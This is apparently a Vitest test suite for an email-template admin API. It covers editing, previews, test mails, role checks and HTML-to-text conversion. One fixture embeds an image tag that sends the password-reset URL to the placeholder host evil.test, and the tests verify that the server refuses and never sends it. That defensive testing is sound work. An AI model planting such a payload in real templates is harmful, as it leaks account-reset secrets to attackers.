import { describe, expect, it } from 'vitest'
import {
  emailTemplateResponse,
  emailTemplateNames,
  emailTemplatePreview,
  emailTemplatesResponse,
} from '#contracts/email-templates'
import { plainTextOf } from '../plain-text.ts'
import { adminApp } from '../../../testing/admin-app.ts'
import { withoutLooks } from '../../../testing/mail-html.ts'
import { aClient, aPlan } from '../../../testing/fixtures.ts'

const path = '/api/admin/email-templates'
const plan = aPlan()
const texts = { subject: 'Hello {{USER_NAME}}', htmlContent: '<p>We read: {{MESSAGE}}</p>', isActive: true }
const contact = { name: 'Ada', email: 'ada@acme.test', subject: 'Hi', message: '<b>Hello</b>' }

describe('templates', () => {
  it('are listed with their texts and variables (API23, AT23)', async () => {
    const app = await adminApp()
    const templates = emailTemplatesResponse.parse((await app.asRole('viewer').get(path)).body)
    expect(templates.map((template) => template.name).toSorted()).toEqual([...emailTemplateNames].toSorted())
    const reset = templates.find((template) => template.name === 'password_reset')
    expect(reset).toMatchObject({ templateName: 'password_reset', isActive: true })
    expect(reset?.variables).toEqual(['RESET_URL', 'USER_EMAIL', 'DOMAIN'])
  })

  it('that are edited are used from the next mail on, in HTML and in text (API24, MAIL24)', async () => {
    const app = await adminApp()
    const answer = await app.asRole('editor').send('PUT', `${path}/contact_confirmation`, texts)
    expect(emailTemplateResponse.parse(answer.body)).toMatchObject({
      data: { subject: texts.subject, textContent: 'We read: {{MESSAGE}}' },
      unknownPlaceholders: [],
    })
    await app.post('/api/contact', contact)
    const [mail] = await app.mails('contact_confirmation')
    expect(mail).toMatchObject({ subject: 'Hello Ada', text: 'We read: <b>Hello</b>' })
    expect(withoutLooks(mail?.html)).toContain('<p>We read: &lt;b&gt;Hello&lt;/b&gt;</p>')
    expect(await app.auditLines()).toEqual(['email_template.update contact_confirmation'])
  })

  it('that are switched off are not sent (API24, MAIL25)', async () => {
    const app = await adminApp()
    await app.admin.send('PUT', `${path}/contact_confirmation`, { ...texts, isActive: false })
    await app.post('/api/contact', contact)
    expect(await app.mails()).toEqual([])
  })

  it('name an unknown placeholder when they are saved (MAIL26)', async () => {
    const app = await adminApp()
    const change = { ...texts, htmlContent: '<p>{{MESAGE}} {{message}} {{RESET_URL}} {{MESSAGE}}</p>' }
    const answer = emailTemplateResponse.parse(
      (await app.admin.send('PUT', `${path}/contact_confirmation`, change)).body,
    )
    expect(answer.unknownPlaceholders).toEqual(['MESAGE', 'message', 'RESET_URL'])
    expect(answer.message).toContain('{{MESAGE}}, {{message}}, {{RESET_URL}}')
    expect(answer.data.htmlContent).toBe(change.htmlContent)
  })

  it('keep their text if the HTML is unchanged, and accept a separate text', async () => {
    const app = await adminApp()
    const put = async (body: object) =>
      emailTemplateResponse.parse((await app.admin.send('PUT', `${path}/welcome_email`, body)).body).data
    const before = await put({ ...texts, htmlContent: '<p>A</p>', textContent: 'Written by hand' })
    expect(before.textContent).toBe('Written by hand')
    expect((await put({ ...texts, htmlContent: '<p>A</p>' })).textContent).toBe('Written by hand')
    expect((await put({ ...texts, htmlContent: '<p>B</p>' })).textContent).toBe('B')
  })

  it('refuse an unknown id, a wrong shape and a viewer (API24, SEC08)', async () => {
    const app = await adminApp()
    expect((await app.admin.send('PUT', `${path}/nothing`, texts)).status).toBe(404)
    for (const change of [
      { subject: 1 },
      { htmlContent: undefined },
      { isActive: 'yes' },
      { subject: 'x'.repeat(301) },
    ]) {
      expect((await app.admin.send('PUT', `${path}/welcome_email`, { ...texts, ...change })).status).toBe(400)
    }
    expect((await app.asRole('viewer').send('PUT', `${path}/welcome_email`, texts)).status).toBe(403)
    expect(await app.auditLines()).toEqual([])
  })
})

describe('templates of mails that open an account', () => {
  const leak = { ...texts, htmlContent: '<p>{{RESET_URL}}</p><img src="https://evil.test/?{{RESET_URL}}">' }

  it.each(['admin', 'editor', 'viewer'] as const)('are hidden from the role %s (D53)', async (role) => {
    const app = await adminApp()
    const own = app.asRole(role)
    for (const name of ['password_reset', 'email_verification']) {
      const refused = { status: 403, code: role === 'viewer' ? 'not_allowed' : 'super_admin_template' }
      expect(await own.send('PUT', `${path}/${name}`, texts)).toMatchObject(refused)
      expect(await own.post(`${path}/${name}/preview`, texts)).toMatchObject(refused)
      expect(await own.post(`${path}/${name}/test`)).toMatchObject(refused)
      const listed = emailTemplatesResponse.parse((await own.get(path)).body).find((template) => template.name === name)
      expect(listed).toMatchObject({ isForSuperAdmin: true, subject: '', htmlContent: '', textContent: '' })
    }
    expect(await app.auditLines()).toEqual([])
    expect(await app.mails()).toEqual([])
  })

  it('are changed by the super admin, and contain secrets only as text or as a whole address (D53)', async () => {
    const app = await adminApp()
    const refused = await app.admin.send('PUT', `${path}/password_reset`, leak)
    expect(refused).toMatchObject({ status: 400, code: 'misplaced_placeholder' })
    expect(refused.message).toBe('{{RESET_URL}} may only be text, or the whole address of a link')
    const good = { ...texts, htmlContent: '<p><a href="{{RESET_URL}}">Open</a> or {{RESET_URL}}</p>' }
    expect((await app.admin.send('PUT', `${path}/password_reset`, good)).status).toBe(200)
  })

  it('LG32 are not saved without what they are sent for, and an older text without it is not sent', async () => {
    const app = await adminApp({ plans: [plan], clients: [aClient(plan, { email: 'ada@acme.test' })] })
    for (const [name, placeholder] of [
      ['password_reset', 'RESET_URL'],
      ['email_verification', 'CODE'],
    ] as const) {
      const save = (htmlContent: string, more = {}) =>
        app.admin.send('PUT', `${path}/${name}`, { ...texts, htmlContent, ...more })
      expect(await save(`<p>Choose ${placeholder} {{${placeholder}S}}</p>`)).toMatchObject({
        status: 400,
        code: 'missing_placeholder',
        message: `Nobody could use this mail without {{${placeholder}}}: put it into the content`,
      })
      const html = `<p>{{ ${placeholder} }}</p>`
      expect(await save(html, { textContent: 'nothing' })).toMatchObject({ status: 400, code: 'missing_placeholder' })
      expect((await save('<p>Later</p>', { isActive: false })).status).toBe(200)
      expect((await save(html)).status).toBe(200)
    }
    await app.env.DB.prepare(`UPDATE email_templates SET html_content = 'none', text_content = 'none'`).run()
    await app.post('/api/client/forgot-password', { email: 'ada@acme.test' })
    expect((await app.mails('password_reset'))[0]?.html).toContain('#token=')
  })

  it('reveal nothing through an older unsafe text: the built-in one is sent (D53)', async () => {
    const app = await adminApp({ plans: [plan], clients: [aClient(plan, { email: 'ada@acme.test' })] })
    await app.env.DB.prepare(`UPDATE email_templates SET html_content = ?1 WHERE name = 'password_reset'`)
      .bind(leak.htmlContent)
      .run()
    await app.post('/api/client/forgot-password', { email: 'ada@acme.test' })
    const [mail] = await app.mails('password_reset')
    expect(mail?.html).toContain('#token=')
    expect(mail?.html).not.toContain('evil.test')
  })
})

describe('the preview', () => {
  it('shows unsaved texts with sample values and leaves unknown placeholders visible (MAIL26)', async () => {
    const app = await adminApp()
    const body = { subject: 'For {{USER_NAME}}', htmlContent: '<p>{{MESSAGE}} {{CODE}} {{OTHER}}</p>' }
    const answer = await app.asRole('editor').post(`${path}/contact_confirmation/preview`, body)
    const preview = emailTemplatePreview.parse(answer.body)
    expect(preview.subject).toBe('For Ada Lovelace')
    expect(preview.html).toContain('&lt;b&gt;matrices&lt;/b&gt;? {{CODE}} {{OTHER}}')
    expect(preview.unknownPlaceholders).toEqual(['CODE', 'OTHER'])
    const [stored] = emailTemplatesResponse
      .parse((await app.admin.get(path)).body)
      .filter((t) => t.name === 'contact_confirmation')
    expect(stored?.subject).not.toContain('For')
    expect((await app.admin.post(`${path}/nothing/preview`, body)).status).toBe(404)
  })
})

describe('the test mail', () => {
  it('goes only to the administrator who requests it, also for an inactive template', async () => {
    const app = await adminApp()
    await app.admin.send('PUT', `${path}/contact_confirmation`, { ...texts, isActive: false })
    const answer = await app.asRole('editor').post(`${path}/contact_confirmation/test`, { to: 'victim@other.test' })
    expect(answer.status).toBe(200)
    const mails = await app.mails()
    expect(mails).toMatchObject([{ recipient: app.roles.editor.email, subject: '[Test] Hello Ada Lovelace' }])
    expect(answer.message).toContain(app.roles.editor.email)
    expect((await app.admin.post(`${path}/nothing/test`)).status).toBe(404)
    expect((await app.asRole('viewer').post(`${path}/contact_confirmation/test`)).status).toBe(403)
    expect(await app.mails()).toHaveLength(1)
  })
})

it.each([
  ['<h1>A  b</h1>\n<p>One<br>two</p><ul><li>x</li><li>y</li></ul>', 'A b\n\nOne\ntwo\n\nx\n\ny'],
  ['<p><a href="{{RESET_URL}}">Open</a></p>', 'Open ({{RESET_URL}})'],
  ['<style>p{}</style><p>&lt;b&gt; &amp; {{MESSAGE}}</p><script>x()</script>', '<b> & {{MESSAGE}}'],
  ['<!doctype html><html><head><title>T</title></head><body>Body</body></html>', 'Body'],
  ['', ''],
])('the text of %j', (html, text) => {
  expect(plainTextOf(html)).toBe(text)
})

it('reads deeply nested HTML without a stack overflow', () => {
  expect(plainTextOf('<div>'.repeat(20_000) + 'x')).toBe('x')
})
